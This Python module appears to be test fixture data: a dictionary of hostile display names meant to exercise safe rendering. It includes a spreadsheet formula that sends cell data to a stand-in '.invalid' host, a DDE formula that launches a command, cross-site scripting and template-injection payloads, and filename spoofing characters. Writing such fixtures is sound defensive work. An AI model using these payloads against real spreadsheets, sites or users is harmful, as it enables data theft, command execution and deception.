"""What do abusers call themselves? Names that attack spreadsheets, pages, terminals and templates.

Every link leads to ``.invalid``, which never resolves (RFC 2606, section 2).
"""

HOSTILE_NAMES = {
    "formula": '=HYPERLINK("https://prize.invalid/?q="&A1,"claim")',
    "formula_command": "+cmd|' /C calc'!A0",
    "image_handler": '<img src=x onerror="alert(1)">',
    "script_close": "</script><script>alert(1)</script>",
    "style_import": "<style>@import 'https://prize.invalid/a.css'</style>",
    "right_to_left": "invoice_\u202egpj.exe",
    "zero_width": "offi\u200bcial_\u200dsup\ufeffport",
    "terminal_escape": "\x1b[2J\x1b[31mALERT\x1b[0m",
    "markdown_link": "[verify now](javascript:alert(1))",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "quotes": "\"';--,\t|",
    "endless": "A" * 5_120,
}
